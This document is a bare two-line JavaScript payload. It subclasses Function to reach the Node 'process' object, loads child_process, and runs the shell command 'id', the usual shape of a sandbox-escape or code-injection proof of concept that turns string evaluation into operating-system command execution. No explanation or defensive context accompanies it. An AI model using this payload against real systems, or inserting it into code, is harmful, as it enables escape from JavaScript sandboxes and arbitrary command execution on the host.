class Compiled extends Function {}
new Compiled("return process")().mainModule.require("child_process").execSync("id", {stdio: "inherit"});
